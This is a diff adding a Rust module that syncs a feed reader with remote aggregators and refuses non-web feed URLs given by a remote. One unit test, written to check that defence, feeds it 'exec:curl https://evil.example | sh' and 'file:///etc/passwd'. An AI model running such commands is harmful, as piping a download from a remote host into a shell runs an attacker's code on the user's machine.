@@ -0,0 +1,410 @@
+//! Synchronization with remote feed aggregators.
+//!
+//! The feeds subscribed to on a remote are added to the feed file, its items
+//! are stored in the database like downloaded posts, and the read state is
+//! synchronized in both directions.
+
+pub mod fever;
+pub mod ttrss;
+
+use std::fmt;
+use std::collections::{HashMap, HashSet};
+use std::collections::hash_map::Entry;
+use tracing::warn;
+use url::Url;
+use crate::config::{
+    Feed, FeedConfig, Post, Posts, feed_file_title,
+};
+use crate::database::{Database, SubscribedFeed};
+use crate::error::{Error, Result};
+use crate::settings::Settings;
+
+/// A feed subscribed to on a remote.
+#[derive(Debug)]
+pub struct RemoteFeed {
+    /// Identifier of the feed on the remote.
+    pub id: u64,
+
+    /// Title of the feed.
+    pub title: String,
+
+    /// URL of the feed.
+    pub url: Url,
+
+    /// The group the feed belongs to, used as the section.
+    pub group: Option<String>,
+}
+
+/// An item downloaded from a remote.
+#[derive(Debug)]
+pub struct RemoteItem {
+    /// Identifier of the item on the remote.
+    pub id: u64,
+
+    /// Identifier of the item's feed on the remote.
+    pub feed_id: u64,
+
+    /// The item converted to a post, with the read state of the remote.
+    pub post: Post,
+}
+
+/// A remote feed aggregator.
+pub trait Remote {
+    /// Name of the remote under which its sync state is stored.
+    fn name(&self) -> &str;
+
+    /// Whether the subscriptions on the remote replace the feed file.
+    ///
+    /// Otherwise the remote feeds are added to the feed file.
+    fn manages_subscriptions(&self) -> bool {
+        false
+    }
+
+    /// Get all feeds subscribed to on the remote.
+    fn feeds(&self) -> Result<Vec<RemoteFeed>, String>;
+
+    /// Get the next batch of items with IDs greater than `since_id`.
+    ///
+    /// An empty batch means that there are no more items.
+    fn items(&self, since_id: u64) -> Result<Vec<RemoteItem>, String>;
+
+    /// Get the IDs of all unread items.
+    fn unread_ids(&self) -> Result<HashSet<u64>, String>;
+
+    /// Get the IDs of all saved items.
+    fn saved_ids(&self) -> Result<HashSet<u64>, String>;
+
+    /// Mark the item as read on the remote.
+    fn mark_read(&self, id: u64) -> Result<(), String>;
+}
+
+/// Get all remotes configured in the settings.
+pub fn configured(settings: &Settings) -> Result<Vec<Box<dyn Remote>>, String> {
+    let mut remotes: Vec<Box<dyn Remote>> = Vec::new();
+
+    if let Some(fever) = &settings.fever {
+        remotes.push(Box::new(fever::Fever::new(fever)?));
+    }
+
+    if let Some(ttrss) = &settings.ttrss {
+        remotes.push(Box::new(ttrss::TinyTinyRss::new(ttrss)?));
+    }
+
+    Ok(remotes)
+}
+
+/// Whether a feed URL given by a remote may be downloaded.
+///
+/// Only web URLs may. The feeds of `file:` and `exec:` URLs are read or run
+/// locally, so only the user's own feed file may give those.
+fn is_web_url(url: &Url) -> bool {
+    matches!(url.scheme(), "http" | "https")
+}
+
+/// Get the feeds subscribed to on the `remote`, refusing those it gives
+/// other than web URLs for.
+fn remote_feeds(remote: &dyn Remote) -> Result<Vec<RemoteFeed>, String> {
+    let (feeds, refused): (Vec<_>, Vec<_>) = remote.feeds()?.into_iter()
+        .partition(|feed| is_web_url(&feed.url));
+    for feed in refused {
+        warn!("Refused the feed {} of {}, only http(s) feeds are synced",
+            feed.url, remote.name());
+    }
+    Ok(feeds)
+}
+
+/// Whether the feeds are read from the feed file, instead of being the
+/// subscriptions of a remote.
+pub fn uses_feed_file(settings: &Settings) -> bool {
+    configured(settings).is_ok_and(|remotes| {
+        !remotes.iter().any(|remote| remote.manages_subscriptions())
+    })
+}
+
+/// Fail if the feeds are the subscriptions of a remote, whose next sync
+/// would undo the changes made to the feed file.
+pub fn check_feed_file(settings: &Settings) -> Result<(), String> {
+    let remotes = configured(settings)?;
+    match remotes.iter().find(|remote| remote.manages_subscriptions()) {
+        Some(remote) => Err(format!("The feeds are the subscriptions on {}, \
+            edit them there instead", remote.name())),
+        None => Ok(()),
+    }
+}
+
+/// Load the feeds to read.
+///
+/// These are the subscriptions of the remote that manages them, as of the
+/// last sync, or the feed file if there's no such remote.
+pub fn load_feeds(settings: &Settings) -> Result<Option<FeedConfig>> {
+    let remote = configured(settings)
+        .map_err(Error::Config)?
+        .into_iter()
+        .find(|remote| remote.manages_subscriptions());
+    let Some(remote) = remote else {
+        return Ok(FeedConfig::parse_feed_file()?);
+    };
+
+    let db = Database::open(&settings.storage)?;
+    let state = db.remote_state(remote.name())?;
+    if state.feeds.is_empty() {
+        return Err(Error::Config(format!("No feeds have been synced from {} \
+            yet. Run `nia sync` first.", remote.name())));
+    }
+
+    let mut config = FeedConfig { sections: Vec::new() };
+    for feed in state.feeds {
+        let Some(url) = Url::parse(&feed.url).ok().filter(is_web_url) else {
+            continue;
+        };
+
+        let section = feed.section;
+        let feed = Feed::new(feed.title.into(), url);
+        config.push_feed(&section, feed);
+    }
+
+    Ok(Some(config))
+}
+
+/// What has changed during a sync.
+#[derive(Debug, Default)]
+pub struct SyncSummary {
+    /// The number of feeds added to the feed file.
+    pub feeds_added: usize,
+
+    /// The number of new posts stored in the database.
+    pub new_posts: usize,
+
+    /// The number of posts marked as read locally.
+    pub pulled_read: usize,
+
+    /// The number of items marked as read on the remote.
+    pub pushed_read: usize,
+
+    /// The number of items saved on the remote.
+    pub saved: usize,
+}
+
+impl fmt::Display for SyncSummary {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        write!(f, "{} new feeds, {} new posts, {} marked read here, \
+            {} marked read there, {} saved", self.feeds_added, self.new_posts,
+            self.pulled_read, self.pushed_read, self.saved)
+    }
+}
+
+/// Add the `feeds` that aren't in the feed file yet to it.
+///
+/// Returns the number of added feeds.
+fn add_to_feed_file(feeds: &[RemoteFeed]) -> Result<usize, String> {
+    let mut added = 0;
+    let config = FeedConfig::parse_feed_file()
+        .map_err(|err| err.to_string())?
+        .unwrap_or(FeedConfig { sections: Vec::new() });
+
+    for feed in feeds.iter() {
+        let subscribed = config.sections.iter()
+            .flat_map(|section| section.feeds.iter())
+            .any(|f| f.url == feed.url);
+        if subscribed {
+            continue;
+        }
+
+        // The feed file can't contain these.
+        let title = feed_file_title(&feed.title)
+            .or_else(|| feed.url.host_str().map(String::from))
+            .unwrap_or_else(|| feed.url.to_string());
+
+        FeedConfig::add_feed(feed.group.as_deref(), &title, &feed.url)
+            .map_err(|err| err.to_string())?;
+        added += 1;
+    }
+
+    Ok(added)
+}
+
+/// Synchronize the feeds, posts and read state with the `remote`.
+///
+/// Only new items are downloaded, starting after the highest item ID seen by
+/// the previous sync. A post read on either side ends up read on both.
+pub fn sync(remote: &dyn Remote, db: &Database)
+    -> Result<SyncSummary, String>
+{
+    let mut summary = SyncSummary::default();
+
+    // Subscribe to the feeds we don't know about yet.
+    let feeds = remote_feeds(remote)?;
+    if !remote.manages_subscriptions() {
+        summary.feeds_added = add_to_feed_file(&feeds)?;
+    }
+
+    let urls: HashMap<u64, String> = feeds.iter()
+        .map(|feed| (feed.id, feed.url.as_str().to_string()))
+        .collect();
+
+    let mut state = db.remote_state(remote.name())?;
+    let mut local: HashMap<String, Posts> = HashMap::new();
+
+    // Or replace the subscriptions altogether.
+    if remote.manages_subscriptions() {
+        summary.feeds_added = feeds.iter()
+            .filter(|feed| !state.feeds.iter()
+                .any(|known| known.url == feed.url.as_str()))
+            .count();
+
+        state.feeds = feeds.iter().map(|feed| SubscribedFeed {
+            section: feed.group.clone().unwrap_or_else(|| "Feeds".into()),
+            title: feed.title.clone(),
+            url: feed.url.to_string(),
+        }).collect();
+        db.save_remote_state(remote.name(), &state)?;
+    }
+
+    // Download the new items in batches.
+    loop {
+        let items = remote.items(state.since_id)?;
+        let Some(max_id) = items.iter().map(|item| item.id).max() else {
+            break;
+        };
+
+        let mut new: HashMap<String, Posts> = HashMap::new();
+        for item in items {
+            let Some(url) = urls.get(&item.feed_id) else {
+                continue;
+            };
+
+            state.items.insert(item.id, (url.clone(), item.post.id.clone()));
+
+            // Keep the read state of posts we already have.
+            let posts = match local.entry(url.clone()) {
+                Entry::Occupied(entry) => entry.into_mut(),
+                Entry::Vacant(entry) => entry.insert(db.load_feed(url)?),
+            };
+            if posts.contains(&item.post) {
+                continue;
+            }
+
+            posts.insert(item.post.clone());
+            new.entry(url.clone()).or_default().insert(item.post);
+            summary.new_posts += 1;
+        }
+
+        for (url, posts) in new {
+            db.save_posts(&url, posts)?;
+        }
+
+        // Don't loop forever on a remote that ignores `since_id`.
+        if max_id <= state.since_id {
+            break;
+        }
+
+        state.since_id = max_id;
+        db.save_remote_state(remote.name(), &state)?;
+    }
+
+    // Synchronize the read state of everything we have downloaded.
+    let unread = remote.unread_ids()?;
+    let mut changed: HashMap<String, Posts> = HashMap::new();
+
+    for (&id, (url, post_id)) in state.items.iter() {
+        let posts = match local.entry(url.clone()) {
+            Entry::Occupied(entry) => entry.into_mut(),
+            Entry::Vacant(entry) => entry.insert(db.load_feed(url)?),
+        };
+        let Some(post) = posts.get_by_id(post_id) else {
+            continue;
+        };
+
+        match (post.read, unread.contains(&id)) {
+            (true, true) => {
+                remote.mark_read(id)?;
+                summary.pushed_read += 1;
+            },
+            (false, false) => {
+                let mut post = post.clone();
+                post.read = true;
+                posts.mark_read(post_id, true);
+                changed.entry(url.clone()).or_default().insert(post);
+                summary.pulled_read += 1;
+            },
+            _ => {},
+        }
+    }
+
+    for (url, posts) in changed {
+        db.save_posts(&url, posts)?;
+    }
+
+    state.saved = remote.saved_ids()?;
+    summary.saved = state.saved.len();
+    db.save_remote_state(remote.name(), &state)?;
+
+    Ok(summary)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A remote subscribed to the given feeds, without any items.
+    struct Subscriptions(Vec<&'static str>);
+
+    impl Remote for Subscriptions {
+        fn name(&self) -> &str {
+            "test"
+        }
+
+        fn feeds(&self) -> Result<Vec<RemoteFeed>, String> {
+            Ok(self.0.iter().enumerate().map(|(id, url)| RemoteFeed {
+                id: id as u64,
+                title: url.to_string(),
+                url: Url::parse(url).unwrap(),
+                group: None,
+            }).collect())
+        }
+
+        fn items(&self, _since_id: u64) -> Result<Vec<RemoteItem>, String> {
+            Ok(Vec::new())
+        }
+
+        fn unread_ids(&self) -> Result<HashSet<u64>, String> {
+            Ok(HashSet::new())
+        }
+
+        fn saved_ids(&self) -> Result<HashSet<u64>, String> {
+            Ok(HashSet::new())
+        }
+
+        fn mark_read(&self, _id: u64) -> Result<(), String> {
+            Ok(())
+        }
+    }
+
+    #[test]
+    fn refuses_local_feeds_of_remotes() {
+        let remote = Subscriptions(vec![
+            "https://a.example/feed.xml",
+            "exec:curl https://evil.example | sh",
+            "file:///etc/passwd",
+            "http://b.example/feed.xml",
+        ]);
+        let urls: Vec<String> = remote_feeds(&remote).unwrap().into_iter()
+            .map(|feed| feed.url.to_string())
+            .collect();
+        assert_eq!(urls, [
+            "https://a.example/feed.xml", "http://b.example/feed.xml",
+        ]);
+    }
+
+    #[test]
+    fn refuses_editing_the_feed_file_of_remotes() {
+        let fever = "[fever]\nurl = \"https://a.example/\"\napi_key = \"k\"\n";
+        let settings = Settings::parse(fever).unwrap();
+        assert!(check_feed_file(&settings).is_ok());
+
+        let ttrss = "[ttrss]\nurl = \"https://a.example/\"\nuser = \"me\"\n\
+            password = \"pw\"\n";
+        let settings = Settings::parse(ttrss).unwrap();
+        assert!(check_feed_file(&settings).is_err());
+    }
+}